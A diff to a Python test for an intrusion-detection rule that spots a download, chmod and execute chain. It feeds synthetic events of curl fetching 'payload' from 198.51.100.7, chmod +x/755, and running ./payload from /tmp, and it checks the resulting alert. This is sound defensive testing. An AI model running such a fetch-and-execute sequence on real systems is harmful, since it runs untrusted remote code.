@@ -88,15 +88,17 @@ def test_download_chmod_exec_reaches_an_executable_of_any_name():
     assert det.observe(event(pid=50, exec_id="b:1:50", exe="/usr/bin/curl", filename="/usr/bin/curl",
                              argv=["curl", "-o", "payload", "http://198.51.100.7/p"], **common)) == []
     assert dl.pending == 0
-    assert det.observe(event(pid=51, exec_id="b:1:51", exe="/usr/bin/chmod", filename="/usr/bin/chmod",
-                             argv=["chmod", "+x", "payload"], **common)) == []
-    assert dl.pending == 1
+    for pid, chmod in ((51, ["chmod", "+x", "payload"]), (151, ["chmod", "755", "payload"])):  # twice
+        assert det.observe(event(pid=pid, exec_id=f"b:1:{pid}", exe="/usr/bin/chmod", filename="/usr/bin/chmod",
+                                 argv=chmod, **common)) == []
+        assert dl.pending == 1
     assert det.observe(event(pid=52, exec_id="b:1:52", exe="/usr/bin/ls", filename="/usr/bin/ls",
                              argv=["ls"], **common)) == []
     alerts = det.observe(event(pid=53, exec_id="b:1:53", exe="/tmp/d/payload", filename="./payload",
                                argv=["./payload"], **common))
     [alert] = [a for a in alerts if a.rule.id == dl.info.id]  # (and the exec-from-/tmp rule)
-    assert (alert.rule.id, alert.pid, alert.matched["file"]) == (dl.info.id, 53, "/tmp/d/payload")
+    assert (alert.rule.id, alert.pid, alert.matched["file"], alert.matched["chmod"]) == (
+        dl.info.id, 53, "/tmp/d/payload", "chmod +x payload")
     assert dl.pending == 0
 
 
